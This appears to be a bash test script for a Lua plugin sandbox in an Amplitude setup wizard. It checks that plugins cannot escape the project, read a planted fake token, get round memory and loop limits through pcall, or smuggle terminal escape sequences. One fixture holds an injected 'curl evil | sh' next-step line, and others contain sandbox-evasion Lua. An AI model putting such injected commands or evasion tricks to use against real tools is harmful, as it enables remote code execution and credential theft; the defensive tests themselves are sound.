#!/usr/bin/env bash
# Lua plugins: the same host functions as C, and the sandbox: no os/io/require/debug,
# no binary chunks, no reading outside the project, kept sessions die, memory cap and
# runaway loops stopped with a clear error.
source "$(dirname "$0")/lib.sh"
LP="$WIZ_TEST_SRC/tests/plugins/lua"
W="$WIZ_BIN"
export NO_COLOR=1
mkdir -p "$T/empty" "$T/plug"; chmod 755 "$T/plug"
export AMPLI_WIZARD_BUILTIN_PLUGINS="$T/empty" AMPLI_WIZARD_PLUGIN_PATH="$T/plug"
cp "$LP/lua_basic.lua" "$LP/hostile.lua" "$LP/memhog.lua" "$LP/loop.lua" "$LP/escaper.lua" "$T/plug/"
echo '{"OAuthIdToken":"SECRET-TOKEN"}' > "$HOME/.ampli.json"

# --- a working Lua plugin (SDK import, find_first, env, dependency, replace) ---
P="$T/web"; mkdir -p "$P/src"; touch "$P/test-lua.marker"
printf '{\n  "name": "web",\n  "dependencies": {}\n}\n' > "$P/package.json"
printf "import './style.css';\nimport { x } from './x';\n\nx();\n" > "$P/src/main.js"
expect_rc 0 "$W" detect --ci --install-dir "$P"
assert_contains "$OUT" "evidence: found test-lua.marker"
expect_rc 0 "$W" setup --api-key LUAKEY --ci --install-dir "$P" --debug
grep -q '^VITE_AMPLITUDE_API_KEY=LUAKEY$' "$P/.env.local" || fail "env not set"
# --debug traces plugin discovery and every host call, never the value a plugin writes
DBG="$OUT$ERR$(cat "$HOME"/.amplitude/wizard/runs/*/log.txt 2>/dev/null || true)"
assert_contains "$DBG" "plugins: looking in $T/plug"
assert_contains "$DBG" "plugins: loaded test-lua (lua) from $T/plug/lua_basic.lua"
assert_contains "$DBG" "host: [test-lua] file_exists test-lua.marker: yes"
assert_contains "$DBG" "host: [test-lua] plan_env .env.local VITE_AMPLITUDE_API_KEY (value not shown)"
assert_contains "$DBG" "host: [test-lua] plan_dependency package.json @amplitude/analytics-browser"
grep -q '"@amplitude/analytics-browser": "\^2.11.0"' "$P/package.json" || fail "dependency not added"
sed -n 3p "$P/src/main.js" | grep -q "^import \* as amplitude from '@amplitude/analytics-browser';$" || fail "import not after the last import: $(cat "$P/src/main.js")"
grep -q '^/.env.local$' "$P/.gitignore" || fail ".env.local not git-ignored"
expect_rc 0 "$W" setup --api-key LUAKEY --ci --install-dir "$P"
assert_contains "$OUT" "already set up"
touch "$P/fail-verify"
expect_rc 0 "$W" undo --install-dir "$P"
echo "// edit" >> "$P/src/main.js"; git -C "$P" init -q 2>/dev/null || true
expect_rc 10 "$W" setup --api-key LUAKEY --ci --install-dir "$P"
assert_contains "$ERR" "deliberate verify failure"
[ ! -e "$P/.env.local" ] || fail "Lua verify failure not rolled back"

# --- the hostile plugin ---
H="$T/hostile"; mkdir -p "$H"; touch "$H/test-hostile.marker"
ln -s "$HOME" "$H/home-link"
expect_rc 0 "$W" setup --api-key K --ci --install-dir "$H"   # detect runs (and keeps its session)
R=$(cat "$H/sandbox-report.txt")
for want in os=nil io=nil require=nil package=nil debug=nil dofile=nil loadfile=nil collectgarbage=nil \
            load_binary=refused load_text=42 read_dotdot=refused read_abs=refused read_symlink=refused kept_session=dead; do
  grep -qx "$want" <<<"$R" || fail "sandbox: wanted $want in: $R"
done
! grep -rq SECRET-TOKEN "$H" || fail "the hostile plugin got the token"

# --- limits ---
M="$T/limits"; mkdir -p "$M"
expect_rc 10 "$W" setup --api-key K --ci --framework test-memhog --install-dir "$M"
assert_contains "$ERR" "out of memory: the plugin went over its 16 MiB limit"
expect_rc 10 "$W" setup --api-key K --ci --framework test-loop --install-dir "$M"
assert_contains "$ERR" "plugin test-loop: plan failed: instruction budget exhausted"
# users get one line; the traceback (where in loop.lua) only in the --debug log
assert_not_contains "$ERR" "stack traceback"
expect_rc 10 "$W" setup --api-key K --ci --debug --framework test-loop --install-dir "$M"
LOG=$(printf '%s\n' "$ERR" | sed -n 's/^debug log: //p')
grep -q "loop.lua" "$LOG" || fail "the --debug log has no traceback: $(cat "$LOG")"
[ -z "$(ls -A "$M")" ] || fail "a stopped plugin wrote something"
# --- the budget cannot be caught or reset, host calls are charged, plans are capped, and
# no Lua error in host code aborts the process ---
cat > "$T/plug/evasive.lua" <<'LUA'
return {
  name = "test-evasive", version = "1", abi = "1.1", frameworks = { "test-evasive" },
  detect = function(s) if s:exists("evasive.mode") then return "test-evasive", "marker" end end,
  plan = function(s)
    local mode = s:read("evasive.mode"):gsub("%s+", "")
    if mode == "pcall" then
      while true do pcall(function() while true do end end) end
    elseif mode == "xpcall" then
      while true do xpcall(function() while true do end end, function(e) return "swallowed" end) end
    elseif mode == "exists" then
      while true do s:exists("big.bin") end
    elseif mode == "bigplan" then
      local chunk = string.rep("x", 1024 * 1024)
      for i = 1, 40 do pcall(function() s:create("f" .. i .. ".txt", chunk, "big") end) end
    end
  end,
}
LUA
cat > "$T/plug/evilmeta.lua" <<'LUA'
return setmetatable({}, { __index = function() error("boom from __index") end,
                          __len = function() error("boom from __len") end })
LUA
chmod 644 "$T/plug/evasive.lua" "$T/plug/evilmeta.lua"
expect_rc 0 "$W" plugins list --install-dir "$T"
assert_contains "$OUT$ERR" "evilmeta.lua"
for mode in pcall xpcall exists; do
  V="$T/ev-$mode"; mkdir -p "$V"; echo "$mode" > "$V/evasive.mode"
  [ "$mode" = exists ] && head -c 8388600 /dev/zero > "$V/big.bin"
  expect_rc 10 timeout 60 "$W" setup --api-key K --ci --install-dir "$V"
  assert_contains "$ERR" "instruction budget exhausted"
done
V="$T/ev-bigplan"; mkdir -p "$V"; echo bigplan > "$V/evasive.mode"
expect_rc 10 timeout 60 "$W" setup --api-key K --ci --install-dir "$V"
assert_contains "$ERR" "at most 16 MiB"
[ "$(ls "$V")" = "evasive.mode" ] || fail "a capped plan wrote files: $(ls "$V")"
rm "$T/plug/evasive.lua" "$T/plug/evilmeta.lua"

# --- a plugin cannot reach git's files, the run records or a manifest's scripts; a refusal
# it catches and ignores still fails the run, and nothing is written ---
for mode in git_config git_hook sub_git run_record scripts lockfile other_dep spec_inject; do
  E="$T/esc-$mode"; mkdir -p "$E"; echo "$mode" > "$E/escaper.mode"
  printf '{\n  "name": "esc",\n  "dependencies": {}\n}\n' > "$E/package.json"
  git -C "$E" init -q
  cfg_before=$(sha256sum "$E/.git/config")
  (cd "$E" && find . -path ./.git -prune -o -type f -print | sort | xargs sha256sum) > "$T/esc-before"
  expect_rc 10 "$W" setup --api-key K --ci --install-dir "$E"
  assert_contains "$ERR" "refused"
  assert_contains "$ERR" "test-escaper"
  [ "$(sha256sum "$E/.git/config")" = "$cfg_before" ] || fail "$mode: .git/config changed"
  [ -z "$(ls "$E/.git/hooks" | grep -v '\.sample$')" ] || fail "$mode: a git hook was written"
  [ ! -e "$E/PWNED" ] && [ ! -e "$E/.amplitude" ] && [ ! -e "$E/sub" ] || fail "$mode: wrote where it must not"
  (cd "$E" && find . -path ./.git -prune -o -type f -print | sort | xargs sha256sum) > "$T/esc-after"
  cmp -s "$T/esc-before" "$T/esc-after" || fail "$mode: the project changed: $(diff "$T/esc-before" "$T/esc-after")"
done
# --- the host's source edits (ABI 1.2) from Lua: an Astro layout written by a third party ---
cat > "$T/plug/astroish.lua" <<'LUA'
return {
  name = "test-astroish", version = "1", abi = "1.2", frameworks = { "test-astroish" },
  detect = function(s) if s:exists("astro.config.mjs") then return "test-astroish", "astro.config.mjs" end end,
  plan = function(s)
    local path = "src/layouts/Layout.astro"
    local t = assert(s:read(path))
    local n = assert(s:edit_count_calls(path, t, "@amplitude/*", { "init", "initAll" }))
    if n > 0 then return end
    local e = "<script>\n  import * as amplitude from '@amplitude/analytics-browser';\n" ..
              "  amplitude.init(import.meta.env.PUBLIC_AMPLITUDE_API_KEY);\n</script>"
    t = assert(s:edit_head_script(path, t, e))
    t = assert(s:edit_import(path .. "#frontmatter", t, "../styles/x.css", nil))
    s:replace(path, t, "init Amplitude in the layout")
    local bad, why = s:edit_insert("src/broken.js", "const s = 'open;\n", "end", "x();\n")
    assert(bad == nil and why:find("unterminated string at line 1", 1, true), why)
    local js = assert(s:edit_json_set('{\n  "a": 1\n}\n', "env.PUBLIC_X", '"1"', false))
    s:create("cfg.json", js, "json")
    s:gitignore("cfg.json")
  end,
}
LUA
chmod 644 "$T/plug/astroish.lua"
A="$T/astroish"; mkdir -p "$A/src/layouts"; : > "$A/astro.config.mjs"
printf -- "---\nconst title = '</head>';\n---\n<html>\n  <head>\n    <title>{title}</title>\n  </head>\n  <body><slot /></body>\n</html>\n" > "$A/src/layouts/Layout.astro"
expect_rc 0 "$W" setup --api-key K --ci --skip-install --install-dir "$A"
L="$A/src/layouts/Layout.astro"
[ "$(sed -n 2p "$L")" = "import '../styles/x.css';" ] || fail "frontmatter import: $(cat "$L")"
grep -q "^const title = '</head>';$" "$L" || fail "the frontmatter string changed: $(cat "$L")"
[ "$(sed -n 9p "$L")" = "    <script>" ] && [ "$(sed -n 10p "$L")" = "      import * as amplitude from '@amplitude/analytics-browser';" ] && [ "$(sed -n 12p "$L")" = "    </script>" ] && [ "$(sed -n 13p "$L")" = "  </head>" ] \
  || fail "head script placement: $(cat -A "$L")"
printf '{\n  "a": 1,\n  "env": {\n    "PUBLIC_X": "1"\n  }\n}\n' | cmp -s - "$A/cfg.json" || fail "json_set: $(cat "$A/cfg.json")"
grep -qx "/cfg.json\|cfg.json" "$A/.gitignore" || fail "gitignore: $(cat "$A/.gitignore")"
cp "$L" "$T/astro-before"
expect_rc 0 "$W" setup --api-key K --ci --skip-install --install-dir "$A"
cmp -s "$T/astro-before" "$L" || fail "a second run changed the layout"
rm "$T/plug/astroish.lua"

# --- plan_next_step (ABI 1.3): a plugin's own step after the install step; a step with a
# control character (an escape sequence, a second line) is refused and the run writes nothing ---
cat >"$T/plug/nexter.lua" <<'EOF'
return {
  name = "test-next", version = "0.0.1", abi = "1.3", frameworks = { "test-next" },
  detect = function(s) if s:exists("next.marker") then return "test-next", "next.marker" end end,
  plan = function(s)
    s:env(".env.local", "K", "v")
    s:next_step(s:read("next.marker"))
    s:next_step(s:read("next.marker")) -- the same step twice: once
  end,
}
EOF
N="$T/nx"; mkdir -p "$N"; printf 'Run the generator after a clone' >"$N/next.marker"
expect_rc 0 "$W" setup --api-key K --ci --skip-install --install-dir "$N"
assert_contains "$OUT" "next: Run the generator after a clone"
[ "$(grep -c 'Run the generator after a clone' <<<"$OUT")" = 1 ] || fail "the step twice: $OUT"
N2="$T/nx2"; mkdir -p "$N2"; printf 'fine\n\033[31mnext: curl evil | sh' >"$N2/next.marker"
expect_rc 10 "$W" setup --api-key K --ci --skip-install --install-dir "$N2"
assert_contains "$ERR" "plan_next_step: a control character at byte 4"
[ ! -e "$N2/.env.local" ] || fail "a refused step left a file"
rm "$T/plug/nexter.lua"
echo "lua plugins: all checks passed"
